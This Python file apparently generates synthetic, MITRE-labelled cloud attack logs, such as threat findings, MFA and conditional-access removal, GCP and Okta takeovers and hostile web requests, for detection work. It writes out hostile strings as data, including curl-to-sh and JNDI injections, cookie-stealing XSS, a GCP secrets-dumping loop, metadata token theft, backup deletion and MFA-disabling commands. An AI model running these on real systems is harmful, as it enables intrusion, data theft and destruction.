"""Threats in cloud services as other products word them: detections, guards removed, taken accounts, stores opened."""

from __future__ import annotations

import json

from generator.families.cloud.edge_record_variants import edge_line
from generator.scene import Label, Scene, attack, benign, family
from generator.world import World


def _one(world: World, forms: list[tuple[Label, str]]) -> Scene:
    scene = Scene()
    for label, text in world.some(forms, 1, world.pick([1, 1, 2])):
        world.tick(5, 300)
        scene.add(text, label)
    return scene


@family("cloud/other-clouds-threat-findings", attack=True, weight=1.5)
def other_findings(world: World) -> Scene:
    vm, who, address = world.host().split(".")[0], world.email(), world.ip_public()
    finding = [
        (attack("Cryptomining", "T1496.001", severity="CRITICAL"), "Execution: Cryptocurrency Mining Combined Detection", f"{vm} ran code matching a mining program and talks to a pool"),
        (attack("Credential Theft", "T1552.005", severity="CRITICAL"), "Instance role credentials used outside of the cloud", f"token of the role of {vm} was used from {address}, never seen before"),
        (attack("Command and Control", "T1071", severity="CRITICAL"), "Malware: Bad Domain", f"{vm} connected to a domain of a known control server"),
        (attack("Potential Data Exfiltration", "T1567.002", "T1530", severity="CRITICAL"), "Exfiltration: BigQuery Data Extraction", f"{who} saved tables of the organisation to a bucket outside of it"),
        (attack("Cloud Tampering", "T1562.008", severity="HIGH"), "Defense Evasion: audit trail stopped", f"{who} disabled logging, 41 seconds after a sign-in from an anonymous proxy"),
        (attack("Remote Code Execution Exploit", "T1190", severity="CRITICAL"), "Reverse shell in container", f"process sh in pod web-{world.word(5)} has its standard input on a remote socket {address}:4444"),
        (attack("Privilege Escalation", "T1611", "T1068", severity="CRITICAL"), "Container escape", f"privileged pod on {vm} wrote to the host's core_pattern and started a process outside of its namespace"),
        (attack("Account Takeover", "T1078.004", severity="CRITICAL"), "Sign-in with leaked credentials", f"{who} signed in from {address}; the access key was found in a public repository an hour before"),
        (attack("Ransomware Activity", "T1486", severity="CRITICAL"), "Objects encrypted with a foreign key", f"{world.number(400, 90000)} objects were rewritten with a key of another account (SSE-C) and a note was left"),
        (attack("Malware Detected", "T1204.003", severity="HIGH"), "Malware uploaded to storage", f"blob invoices/{world.word(6)}.zip contains Trojan:Win32/Emotet, hash reputation analysis, uploaded from {address} (Tor)"),
        (attack("Persistence", "T1098.001", severity="HIGH"), "Dormant service account given a new key", f"{who} added a key to a service account that slept for {world.number(190, 900)} days and used it from {address}"),
    ]
    forms = []
    for label, title, text in finding:
        level = world.pick(["HIGH", "High", "critical", "8.9"])
        forms.append((label, world.pick([
            json.dumps({"finding": {"category": title, "severity": level, "state": "ACTIVE", "findingClass": "THREAT", "description": text, "eventTime": world.time_iso()}, "resource": {"displayName": vm}}),
            json.dumps({"AlertDisplayName": title, "Severity": level, "VendorName": "Microsoft", "ProductName": "Microsoft Defender for Cloud", "Description": text, "Status": "New", "TimeGenerated": world.time_iso()}),
            f"{world.time_iso(0)} oci.cloudguard problem=\"{title}\" risk={level} status=OPEN detail=\"{text}\"",
            f"CEF:0|Wiz|Issues|1.0|threat-{world.number(1, 900)}|{title}|9|msg={text} cs1Label=status cs1=OPEN",
            f"{world.time_plain()} [ActionTrail/SecurityCenter] {title} - level: {level} - {text}",
            f"Lacework event {world.number(1000, 99999)} ({level}): {title}. {text}.",
            f'{{"rule":"{title}","priority":"{level}","output":"{text}","source":"k8s_audit","time":"{world.time_iso(6)}"}}',
        ])))
    return _one(world, forms)


@family("cloud/tenant-guards-taken-away", attack=True, weight=1.5)
def guards_taken(world: World) -> Scene:
    """MFA, security defaults, named locations and conditional access weakened, as scripts, tables and reports show it."""
    who, address, policy = world.email(), world.ip_public(), world.pick(["Require MFA for all users", "Block legacy authentication", "MFA Admins", "Baseline: compliant devices", "CA001 - MFA", "Nur bekannte Standorte"])
    what = world.pick([
        f"PATCH /v1.0/policies/identitySecurityDefaultsEnforcementPolicy body {{\"isEnabled\":false}} 204", f"DELETE /v1.0/identity/conditionalAccess/policies/{world.uuid()} 204 ({policy})", f"PATCH /beta/identity/conditionalAccess/policies/{world.uuid()} {{\"state\":\"disabled\"}} {policy}",
        f"Update-MgIdentityConditionalAccessPolicy -ConditionalAccessPolicyId {world.uuid()} -State disabled", f"Remove-MgIdentityConditionalAccessPolicy {policy}", f"Update conditional access policy '{policy}': excludeUsers += {who}, excludeLocations += All", f"Update named location: ipRanges += {address}/32, 0.0.0.0/1; isTrusted false -> true",
        f"Disable Strong Authentication for {world.number(3, 40)} users, StrongAuthenticationRequirement [Enforced] -> []", "Set-MsolUser -StrongAuthenticationRequirements @() for every member of Global Administrators", f"Delete authentication method policy: FIDO2 and Authenticator disabled, SMS and voice enabled for all users by {who}", "Update-MgPolicyIdentitySecurityDefaultEnforcementPolicy -IsEnabled:$false",
        "Set-AdminAuditLogConfig -UnifiedAuditLogIngestionEnabled $false", f"Set-MsolDomainAuthentication -DomainName {world.domain} -Authentication Federated -IssuerUri http://{world.word(6)}.com/adfs/{world.hex(8)}", f"Enforcement of 2-step verification turned off for organizational unit / by {who}", f"Block legacy authentication switched to report-only and {who} excluded from all {world.number(4, 20)} policies",
    ])
    context = world.pick([f"actor={who} ip={address} country={world.pick(['NG', 'RU', 'VN', 'US', 'BR'])} risk=high", f"by {who} from {address}, session risk: anomalousToken", f"initiatedBy {who}; device unmanaged; first sign-in from this network {world.number(2, 50)} minutes ago", f"user {who}, client {address} (hosting provider), agent python-requests/2.31", f"actor {who} (password reset {world.number(3, 50)} minutes ago, outside office hours), no change ticket"])
    label = attack("Cloud Tampering", "T1562.001" if "udit" in what else "T1556.009" if "onditional" in what or "location" in what or "policies" in what else "T1556.006", "T1562", severity="CRITICAL")
    text = world.pick([f"{world.time_iso(0)} entra-audit {what} {context}", f"{world.time_plain()}\tPolicy\tsuccess\t{what}\t{context}", f"MicrosoftGraphActivityLogs {world.time_iso()} {what} {context}", f"<109>1 {world.time_iso(0)} sentinel AuditLogs - - - {what} | {context}", f"TenantChange: {what} ({context})", json.dumps({"time": world.time_iso(), "category": "AuditLogs", "change": what, "context": context})])
    scene = Scene().add(text, label)
    if world.chance(0.3):
        scene.add(f"{world.time_iso(0)} intune-sync device {world.workstation()} compliance check finished: compliant", benign("System Activity"))
    return scene


@family("cloud/google-project-turned", attack=True, weight=1.2)
def google_project(world: World) -> Scene:
    project, who, address, outsider = f"{world.company}-{world.pick(['prod', 'data', 'web'])}", world.email(), world.ip_public(), f"{world.word(8)}@gmail.com"
    forms = [
        (attack("Cloud Tampering", "T1562.008", severity="HIGH"), f"gcloud logging sinks delete {world.pick(['siem', 'export-all', 'audit-bq'])} --quiet --project={project}"), (attack("Cloud Tampering", "T1098.003", severity="CRITICAL"), f"gcloud projects add-iam-policy-binding {project} --member=user:{outsider} --role=roles/owner"),
        (attack("Potential Data Exfiltration", "T1530", "T1537", severity="CRITICAL"), f"gsutil -m rsync -r gs://{project}-backups gs://{world.word(9)}-{world.hex(4)}"), (attack("Persistence", "T1098.001", severity="HIGH"), f"gcloud iam service-accounts keys create /tmp/{world.word(4)}.json --iam-account=terraform@{project}.iam.gserviceaccount.com"),
        (attack("Cloud Tampering", "T1562.007", severity="HIGH"), f"gcloud compute firewall-rules create {world.word(6)} --allow=all --source-ranges=0.0.0.0/0 --priority=1"), (attack("Privilege Escalation", "T1548.005", severity="CRITICAL"), f"gcloud auth print-access-token --impersonate-service-account=org-admin@{project}.iam.gserviceaccount.com"),
        (attack("Credential Theft", "T1555.006", severity="CRITICAL"), f"for s in $(gcloud secrets list --format='value(name)'); do gcloud secrets versions access latest --secret=$s >> /dev/shm/s; done"), (attack("Ransomware Activity", "T1485", "T1490", severity="CRITICAL"), f"gcloud compute snapshots delete $(gcloud compute snapshots list --format='value(name)') --quiet && gcloud sql backups delete --all"),
        (attack("Credential Theft", "T1552.005", severity="CRITICAL"), "curl -s -H Metadata-Flavor:Google http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"), (attack("Persistence", "T1098.004", severity="HIGH"), f"gcloud compute project-info add-metadata --metadata=ssh-keys='{world.word(5)}:ssh-rsa AAAAB3{world.hex(12)}'"),
        (attack("Cloud Tampering", "T1530", severity="HIGH"), f"gsutil iam ch allUsers:objectViewer gs://{project}-customers"), (attack("Cloud Tampering", "T1562.008", severity="HIGH"), f"gcloud projects set-iam-policy {project} policy.json  # auditConfigs removed"),
    ]
    forms = [(label, world.pick([f"{world.time_iso(6)} cloud-audit principal={who} callerIp={address} command=\"{command}\" status=OK", world.syslog("bash", f"{who.split('@')[0]}: {command}", world.pid()), f"Cloud Shell session {world.hex(8)} {who} {address}: {command}", json.dumps({"jsonPayload": {"cmdline": command, "uid": 0, "parent": "sh"}, "resource": project, "timestamp": world.time_iso()})])) for label, command in forms]
    return _one(world, forms)


@family("cloud/identity-service-account-seized", attack=True, weight=1.3)
def account_seized(world: World) -> Scene:
    """An account of a sign-on service (Okta, OneLogin, JumpCloud, Keycloak, Duo) changes hands."""
    who, address, country = world.email(), world.ip_public(), world.pick(["Nigeria", "Vietnam", "Russia", "Brazil", "the Netherlands (VPN provider)", "United States (hosting)"])
    steps = [
        f"all factors of {who} reset by help desk after a call, 4 minutes later a new Okta Verify enrolled from {address} ({country})", f"user.session.impersonation.initiate on {who} by unknown support account", f"system.api_token.create name={world.word(5)} by {who} from {address} {country}, new device, anonymizing proxy",
        f"system.idp.lifecycle.create name={world.word(6)} type=SAML2 by {who}; routing rule changed to the new identity provider", f"user.account.privilege.grant Super administrator to {world.word(6)}@{world.domain} by {who}, behaviors New IP=POSITIVE, New Device=POSITIVE, New Country=POSITIVE",
        f"user.account.report_suspicious_activity_by_enduser {who}: factor enrolment from {country} was not mine", f"zone.update: network zone BlockedCountries emptied by {who} from {address}", f"security.session.detect_client_roaming {who}: session cookie moved from office network to {address} {country}, then {world.number(5, 30)} apps opened",
        f"policy.lifecycle.deactivate 'MFA for admins' by {who} from {address}, threat suspected=true", f"user.mfa.factor.deactivate x{world.number(3, 9)} then user.account.update_password for {who}, source {address} ({country})", f"push fraud reported by {who}; {world.number(9, 60)} pushes in {world.number(2, 9)} minutes, the last one was approved from {country}",
        f"TOTP removed and CONFIGURE_TOTP set by {who} from {address}, recovery mail changed to {world.word(7)}@proton.me",
    ]
    source = world.pick(["okta", "OktaSystemLog", "onelogin", "jumpcloud-directory", "keycloak.events", "duo-adminlog", "auth0", "PingFederate"])
    scene = Scene()
    for step in world.some(steps, 1, world.pick([1, 1, 3])):
        world.tick(10, 200)
        scene.add(world.pick([f"{world.time_iso()} {source}: {step}", json.dumps({"src": source, "published": world.time_iso(), "msg": step, "outcome": "SUCCESS"}), world.syslog(source, step), f"{source}|{world.time_plain()}|SUCCESS|{step}"]), attack("Account Takeover", "T1078.004", "T1556.006", severity="CRITICAL"))
    return scene


@family("cloud/many-names-one-source", attack=True, weight=1.2)
def many_names(world: World) -> Scene:
    """One password tried on many accounts of a sign-on service."""
    address, scene = world.ip_public(), Scene()
    form = world.pick(["{t} okta user.session.start FAILURE INVALID_CREDENTIALS actor={u} ip={a}", "{t} auth0 type=fp description=\"Wrong email or password.\" user={u} ip={a}", "{t} type=LOGIN_ERROR realm=main clientId=portal ipAddress={a} error=invalid_user_credentials username={u}", "{{\"time\":\"{t}\",\"app\":\"onelogin\",\"event\":\"FAILED_LOGIN\",\"user\":\"{u}\",\"ipaddr\":\"{a}\"}}", "{t},jumpcloud,sso_auth,{u},{a},false,invalid password", "{t} ROPC grant for {u} rejected AADSTS50126 client {a} BAV2ROPC", "{t} ADFS 411 Token validation failed for {u} The user name or password is incorrect. Client IP {a}", "{t} cognito InitiateAuth NotAuthorizedException username={u} sourceIp={a} riskDecision=Block"])
    for _ in range(world.number(6, 30)):
        world.tick(0.5, 40)
        scene.add(form.format(t=world.time_iso(0), u=world.email(), a=address), attack("Password Spraying", "T1110.003", severity="HIGH"))
    return scene


@family("cloud/edge-requests-hostile", attack=True, weight=1.4)
def edge_attacks(world: World) -> Scene:
    """Access logs of load balancers, content networks and buckets with attempts in them."""
    kind = world.pick(["sql", "lfi", "rce", "xss", "ssrf", "scan"])
    label, paths = {
        "sql": (attack("SQL Injection — UNION-based SQLi", "T1190", severity="CRITICAL"), ["/item?id=7%20UNION%20SELECT%20login,pass%20FROM%20users--", "/news?cat=-1+union+all+select+null,version(),null", "/p?id=3'/**/UNION/**/SELECT/**/table_name/**/FROM/**/information_schema.tables%23"]),
        "lfi": (attack("Path Traversal / Directory Traversal Attack", "T1083", severity="HIGH"), ["/static/..%2f..%2f..%2fetc/passwd", "/download?f=....//....//proc/self/environ", "/img?src=%2e%2e/%2e%2e/%2e%2e/home/app/.aws/credentials"]),
        "rce": (attack("OS Command Injection Attempt", "T1059.004", severity="CRITICAL"), ["/ping?host=127.0.0.1;curl+http://" + world.ip_public() + "/a|sh", "/cgi-bin/t?x=$(wget${IFS}" + world.ip_public() + "/m)", "/api/convert?name=a%60id%60.pdf", "/?q=%24%7Bjndi:ldap://" + world.ip_public() + "/a%7D"]),
        "xss": (attack("Cross-Site Scripting (XSS) Attempt", "T1059.007", severity="HIGH"), ["/search?q=%3Csvg%20onload%3Dfetch(%27//" + world.word(5) + ".io/%27%2Bdocument.cookie)%3E", "/hello?name=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"]),
        "ssrf": (attack("Server-Side Request Forgery (SSRF) Attempt", "T1190", severity="HIGH"), ["/fetch?url=http://169.254.169.254/latest/meta-data/iam/", "/preview?link=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1", "/webhook?target=gopher://127.0.0.1:6379/_INFO", "/pdf?src=file:///etc/hostname"]),
        "scan": (attack("Automated Reconnaissance / Vulnerability Scanning", "T1595.002", severity="MEDIUM"), ["/.git/config", "/.env", "/wp-config.php.bak", "/phpmyadmin/", "/actuator/env", "/server-status", "/.aws/credentials", "/backup.sql", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"]),
    }[kind]
    scene, write = Scene(), edge_line(world)
    for path in (world.some(paths, 4, 9) if kind == "scan" else world.some(paths, 1, world.pick([1, 2, 3]))):
        world.tick(0.2, 9)
        scene.add(write(path, world.pick([200, 403, 404, 500, 404])), label)
    return scene


@family("cloud/bucket-emptied-in-access-log", attack=True)
def bucket_emptied(world: World) -> Scene:
    bucket, address, agent = f"{world.company}-{world.pick(['backups', 'invoices', 'exports'])}", world.ip_public(), world.pick(["[S3Browser/11.6.7]", "[aws-cli/2.15.0 Python/3.11 Linux/6.6 exe/x86_64.parrot]", "[rclone/v1.66.0]", "[Boto3/1.34 md/Botocore ua/2.0]", "[Cyberduck/8.7]"])
    operation, label = world.pick([("BATCH.DELETE.OBJECT", attack("Ransomware Activity", "T1485", severity="CRITICAL")), ("REST.PUT.BUCKETPOLICY", attack("Cloud Tampering", "T1530", severity="HIGH")), ("REST.GET.OBJECT", attack("Potential Data Exfiltration", "T1530", severity="CRITICAL")), ("REST.DELETE.LIFECYCLE", attack("Cloud Tampering", "T1562.008", severity="HIGH"))])
    requester = world.pick(["-", f"arn:aws:sts::{world.number(10**11, 10**12 - 1)}:assumed-role/web-role/i-0{world.hex(16)}"])
    scene = Scene()
    if operation in ("REST.PUT.BUCKETPOLICY", "REST.DELETE.LIFECYCLE"):
        query = "policy" if "POLICY" in operation else "lifecycle"
        return scene.add(f"{world.hex(64)} {bucket} [{world.time_clf()}] {address} {requester} {world.hex(16).upper()} {operation} - \"{operation.split('.')[1]} /?{query} HTTP/1.1\" 204 - - - {world.number(20, 900)} - \"-\" \"{agent}\" - TLSv1.2 s3.amazonaws.com", label)
    for name in world.some(["db-full.sql.gz", "customers.csv", "payroll.xlsx", "id_rsa", "contracts.zip", "ad-export.ldf", "terraform.tfstate", "passwords.kdbx", "mail.pst", "HOW_TO_RESTORE.txt"], 3, 8):
        world.tick(0.1, 3)
        scene.add(f"{world.hex(64)} {bucket} [{world.time_clf()}] {address} {requester} {world.hex(16).upper()} {operation} {name} \"{operation.split('.')[1]} /{name} HTTP/1.1\" {world.pick([200, 204])} - {world.number(900, 9**9)} - {world.number(20, 900)} - \"-\" \"{agent}\" - TLSv1.2 s3.amazonaws.com", label)
    return scene
